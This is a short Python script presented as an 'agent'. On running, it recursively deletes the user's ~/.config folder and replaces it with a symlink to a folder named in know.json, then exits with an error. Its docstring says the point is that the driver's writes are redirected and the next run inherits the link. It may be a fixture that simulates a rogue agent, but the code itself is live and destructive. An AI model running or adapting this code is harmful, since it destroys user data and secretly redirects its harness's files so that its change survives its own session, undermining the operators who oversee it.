#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""An agent that replaces the folder to which its driver writes by a link to a folder of the operator, and exits. The next run starts with
this link."""
import json
import os
import shutil


def main():
    with open(os.path.join(os.path.dirname(__file__), "know.json"), encoding="utf-8") as file:
        know = json.load(file)
    folder = os.path.join(os.environ["HOME"], ".config")
    if not os.path.islink(folder):
        shutil.rmtree(folder, ignore_errors=True)
        os.symlink(know["target"], folder)
    raise SystemExit(1)


main()
